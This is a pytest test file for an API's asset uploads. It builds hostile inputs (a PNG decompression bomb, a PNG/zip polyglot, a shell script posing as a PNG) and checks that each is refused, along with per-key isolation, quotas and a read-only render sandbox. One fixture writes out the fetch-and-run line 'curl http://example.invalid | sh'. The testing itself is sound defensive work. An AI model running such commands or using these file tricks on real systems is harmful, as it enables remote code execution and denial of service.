"""User assets over real HTTP (the in-process ASGI client): a corpus of real files made here
with Pillow and ffmpeg is uploaded, valid ones are kept, hostile or broken ones are refused
with a 4xx and leave no row and no object; keys see only their own assets; the quota holds.
"""

from __future__ import annotations

import hashlib
import io
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from PIL import Image, ImageStat

from tests.api_helpers import make_client, wait_for
from tests.servers import run_cli
from tests.stores import StoreAt
from tools import media
from tools.render.models import RenderSettings
from tools.render.runner import render_scene

QUOTA_MB = 0.5
PICTURE = (96, 64)
RED = (210, 40, 40)


def _ffmpeg(*args: str) -> None:
    subprocess.run(["ffmpeg", "-v", "error", "-y", *args], check=True, timeout=60)


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body) & 0xFFFFFFFF
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def _png_bomb(side: int) -> bytes:
    """A valid greyscale PNG of side x side zero pixels: a few hundred KB on disk."""
    packer = zlib.compressobj(9)
    row = bytes(side + 1)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every file the tests upload, made here: real encoders, real hostile shapes."""
    root = tmp_path_factory.mktemp("corpus")
    picture = Image.new("RGB", PICTURE, RED)
    picture.save(root / "good.png")
    picture.save(root / "good.jpg", quality=92)
    picture.save(root / "good.webp")
    tone = ["-f", "lavfi", "-i", "sine=frequency=440:duration=1"]
    _ffmpeg(*tone, str(root / "good.mp3"))
    _ffmpeg(*tone, str(root / "good.wav"))
    _ffmpeg(*tone[:3], "sine=frequency=330:duration=5", str(root / "long.wav"))
    _ffmpeg(
        *tone, "-i", str(root / "good.png"), "-map", "0", "-map", "1", "-c:v", "mjpeg",
        "-disposition:v", "attached_pic", str(root / "cover.mp3"),
    )  # fmt: skip
    (root / "script.png").write_text("#!/bin/sh\ncurl http://example.invalid | sh\n")
    jpeg = (root / "good.jpg").read_bytes()
    (root / "truncated.jpg").write_bytes(jpeg[: len(jpeg) * 2 // 3])
    (root / "bomb.png").write_bytes(_png_bomb(20_000))
    (root / "huge.bin").write_bytes(bytes(25 * 2**20))
    (root / "vector.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
        '<rect width="64" height="64" fill="red"/></svg>'
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.sh", "echo owned\n")
    (root / "polyglot.png").write_bytes((root / "good.png").read_bytes() + archive.getvalue())
    return {path.name: path for path in root.iterdir()}


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Path, dict]]:
    """One server with two keys and a small asset quota, shared by the upload tests."""
    data_dir = tmp_path_factory.mktemp("assets") / "data"
    store = StoreAt(data_dir)
    keys = {name: {"X-API-Key": store.create_api_key(name)[1]} for name in ("alice", "bob")}
    with make_client(data_dir, asset_quota_mb=QUOTA_MB) as client:
        yield client, data_dir, keys


def _upload(
    client: TestClient, path: Path, headers: dict[str, str], content_type: str = "image/png"
) -> Any:
    with path.open("rb") as source:
        return client.post(
            "/api/v1/assets", files={"file": (path.name, source, content_type)}, headers=headers
        )


def _stored(data_dir: Path) -> tuple[int, int]:
    """Asset rows, and artifact files on disk."""
    rows = StoreAt(data_dir).counts()["assets"]
    files = sum(1 for path in (data_dir / "artifacts").rglob("*") if path.is_file())
    return rows, files


@pytest.mark.parametrize(
    ("name", "kind", "media_type"),
    [
        ("good.png", "image", "image/png"),
        ("good.jpg", "image", "image/jpeg"),
        ("good.webp", "image", "image/webp"),
        ("good.mp3", "audio", "audio/mpeg"),
        ("good.wav", "audio", "audio/wav"),
    ],
)
def test_valid_files_are_kept(
    api: tuple[TestClient, Path, dict], corpus: dict[str, Path], name: str, kind: str,
    media_type: str,
) -> None:  # fmt: skip
    client, data_dir, keys = api
    rows, files = _stored(data_dir)
    answer = _upload(client, corpus[name], keys["alice"], "application/octet-stream")
    assert answer.status_code == 201, answer.text
    asset = answer.json()
    assert (asset["kind"], asset["media_type"], asset["filename"]) == (kind, media_type, name)
    if kind == "image":
        assert (asset["width"], asset["height"]) == PICTURE
    else:
        assert asset["duration"] == pytest.approx(1.0, abs=0.1)
    assert _stored(data_dir) == (rows + 1, files + 1)
    shown = client.get(f"/api/v1/assets/{asset['asset_id']}", headers=keys["alice"])
    assert shown.json() == asset
    again = _upload(client, corpus[name], keys["alice"])
    assert (again.status_code, again.json()["asset_id"]) == (200, asset["asset_id"])
    assert _stored(data_dir) == (rows + 1, files + 1)


@pytest.mark.parametrize(
    ("name", "status", "reason"),
    [
        ("script.png", 422, "not a PNG"),
        ("truncated.jpg", 422, "does not decode"),
        ("bomb.png", 422, "too large"),
        ("huge.bin", 413, "at most 20 MB"),
        ("vector.svg", 422, "not a PNG"),
        ("polyglot.png", 422, "follow the end of the PNG"),
        ("cover.mp3", 422, "video stream"),
    ],
)
def test_bad_files_are_refused_and_nothing_is_stored(
    api: tuple[TestClient, Path, dict], corpus: dict[str, Path], name: str, status: int,
    reason: str,
) -> None:  # fmt: skip
    client, data_dir, keys = api
    before = _stored(data_dir)
    answer = _upload(client, corpus[name], keys["alice"])
    assert answer.status_code == status, answer.text
    assert reason in answer.json()["detail"]
    assert answer.json()["error_code"] in {"asset_refused", "asset_too_large"}
    assert _stored(data_dir) == before
    assert not list((data_dir / "work").glob("upload-*"))


def test_another_keys_asset_is_unknown(
    api: tuple[TestClient, Path, dict], corpus: dict[str, Path]
) -> None:
    client, _, keys = api
    asset = _upload(client, corpus["good.png"], keys["alice"]).json()
    url = f"/api/v1/assets/{asset['asset_id']}"
    assert client.get(url, headers=keys["bob"]).status_code == 404
    assert client.delete(url, headers=keys["bob"]).status_code == 404
    assert client.get("/api/v1/assets", headers=keys["bob"]).json() == {"data": [], "count": 0}
    listed = client.get("/api/v1/assets", headers=keys["alice"]).json()
    assert asset["asset_id"] in {item["asset_id"] for item in listed["data"]}
    body = {
        "prompt": "circles",
        "scene_count": 1,
        "assets": [{"id": asset["asset_id"], "role": "image"}],
    }
    assert client.post("/api/v1/generate", json=body, headers=keys["bob"]).status_code == 404
    assert client.get(url, headers=keys["alice"]).status_code == 200


def test_quota_is_refused_and_delete_frees_it(
    api: tuple[TestClient, Path, dict], corpus: dict[str, Path]
) -> None:
    client, data_dir, keys = api
    first = _upload(client, corpus["long.wav"], keys["bob"])
    assert first.status_code == 201, first.text
    rows, files = _stored(data_dir)
    refused = _upload(client, corpus["good.wav"], keys["bob"])
    assert refused.status_code == 413
    assert refused.json()["error_code"] == "asset_quota_exceeded"
    assert "quota" in refused.json()["detail"]
    assert _stored(data_dir) == (rows, files)
    url = f"/api/v1/assets/{first.json()['asset_id']}"
    assert client.delete(url, headers=keys["bob"]).status_code == 204
    assert client.get(url, headers=keys["bob"]).status_code == 404
    assert _upload(client, corpus["good.wav"], keys["bob"]).status_code == 201


def _frame(video: Path, at: float) -> Image.Image:
    still = video.with_name("still.png")
    _ffmpeg("-ss", f"{at:.2f}", "-i", str(video), "-frames:v", "1", str(still))
    return Image.open(still).convert("RGB")


def _volume(path: Path) -> float:
    done = subprocess.run(
        ["ffmpeg", "-i", str(path), "-af", "volumedetect", "-f", "null", "-"],
        capture_output=True, text=True, check=True, timeout=60,
    )  # fmt: skip
    line = next(line for line in done.stderr.splitlines() if "mean_volume" in line)
    return float(line.split("mean_volume:")[1].split()[0])


def test_generate_shows_the_uploaded_image_over_the_music_bed(
    api: tuple[TestClient, Path, dict], corpus: dict[str, Path], tmp_path: Path
) -> None:
    client, data_dir, keys = api
    alice = keys["alice"]
    image = _upload(client, corpus["good.png"], alice).json()["asset_id"]
    music = _upload(client, corpus["good.mp3"], alice).json()["asset_id"]
    body = {
        "prompt": "The Pythagorean theorem",
        "scene_count": 2,
        "render": {"duration_s": 12},
        "narration": {"voice": "none"},
        "assets": [
            {"id": image, "role": "image", "description": "A red card"},
            {"id": music, "role": "music"},
        ],
    }
    wrong = {**body, "assets": [{"id": music, "role": "image"}]}
    assert client.post("/api/v1/generate", json=wrong, headers=alice).status_code == 422
    job = client.post("/api/v1/generate", json=body, headers=alice).json()
    assert wait_for(client, job["job_id"], headers=alice)["status"] == "completed"
    result = client.get(f"/api/v1/jobs/{job['job_id']}/result", headers=alice).json()
    shown = result["scenes"][1]
    assert (shown["fallback_used"], shown["layout_issues"]) == (False, 0)

    source = client.get(shown["source_url"], headers=alice).text
    key = hashlib.sha256(corpus["good.png"].read_bytes()).hexdigest()
    assert f'"assets/{key}.png"' in source
    assert "ImageMobject(" in source
    assert "http" not in source

    video = tmp_path / "video.mp4"
    video.write_bytes(client.get(result["video_url"], headers=alice).content)
    at = result["scenes"][0]["duration"] + 0.6 * shown["duration"]
    frame = _frame(video, at)
    centre = frame.crop((frame.width // 2 - 20, frame.height // 2 - 10, frame.width // 2 + 20,
                         frame.height // 2 + 10))  # fmt: skip
    mean = ImageStat.Stat(centre).mean
    assert all(abs(got - want) < 25 for got, want in zip(mean, RED, strict=True)), mean
    assert -60 < _volume(video) < -30

    # The asset goes, its bytes stay while a scene plan shows them (an edit renders again).
    assert client.delete(f"/api/v1/assets/{image}", headers=alice).status_code == 204
    StoreAt(data_dir).collect_garbage(timedelta(0))
    assert (data_dir / "artifacts" / key[:2] / f"{key[2:]}.png").is_file()


def test_cli_refuses_a_bad_image_before_anything_is_written(
    corpus: dict[str, Path], tmp_path: Path
) -> None:
    data_dir = tmp_path / "data"
    done = run_cli(
        "generate", "circles", "--scenes", "1", "--voice", "none",
        "--image", f"{corpus['good.png']}:A red card", "--image", f"{corpus['polyglot.png']}:logo",
        data_dir=data_dir, timeout=300,
    )  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert "polyglot.png" in done.stderr and "follow the end of the PNG" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    counts = StoreAt(data_dir).counts()
    assert (counts["assets"], counts["jobs"]) == (0, 0)
    assert not any(path.is_file() for path in (data_dir / "artifacts").rglob("*"))


TAMPER = """from manim import *
import os


class Tamper(Scene):
    def construct(self):
        tries = {
            "append": lambda: open("assets/red.png", "ab").write(b"x"),
            "remove": lambda: os.remove("assets/red.png"),
            "rename": lambda: os.rename("assets", "moved"),
            "create": lambda: open("assets/new.png", "wb"),
        }
        for name, attempt in tries.items():
            try:
                attempt()
                print("TAMPERED", name)
            except OSError:
                print("REFUSED", name)
        self.add(ImageMobject("assets/red.png"))
        self.wait(0.2)
"""


async def test_the_render_sees_its_assets_read_only(
    corpus: dict[str, Path], tmp_path: Path
) -> None:
    work = tmp_path / "render"
    work.mkdir()
    settings = RenderSettings(assets={"red.png": corpus["good.png"]})
    result = await render_scene(TAMPER, work, settings)
    assert result.ok, result.error
    assert "TAMPERED" not in result.log
    assert result.log.count("REFUSED") >= 4
    assert (work / "assets" / "red.png").read_bytes() == corpus["good.png"].read_bytes()


def test_the_music_bed_sits_under_the_voice(corpus: dict[str, Path], tmp_path: Path) -> None:
    picture = ["-f", "lavfi", "-i", "color=c=blue:s=160x120:d=6"]
    voice = ["-f", "lavfi", "-i", "sine=frequency=880:duration=6"]
    silent, voiced = tmp_path / "silent.mp4", tmp_path / "voiced.mp4"
    _ffmpeg(*picture, "-c:v", "libx264", str(silent))
    _ffmpeg(*picture, *voice, "-c:v", "libx264", "-c:a", "aac", "-shortest", str(voiced))
    bed = corpus["good.mp3"]  # 1 s: looped under the whole video

    alone = media.add_music_bed(silent, bed, tmp_path / "alone.mp4")
    mixed = media.add_music_bed(voiced, bed, tmp_path / "mixed.mp4")

    for scored in (alone, mixed):
        assert media.probe(scored).duration == pytest.approx(6, abs=0.1)
        assert media.probe(scored).audio_codec == "aac"
    below = _volume(bed) - _volume(alone)
    assert 18 <= below < 23  # 18 dB down, a little more for the closing fade
    assert _volume(mixed) == pytest.approx(_volume(voiced), abs=0.5)
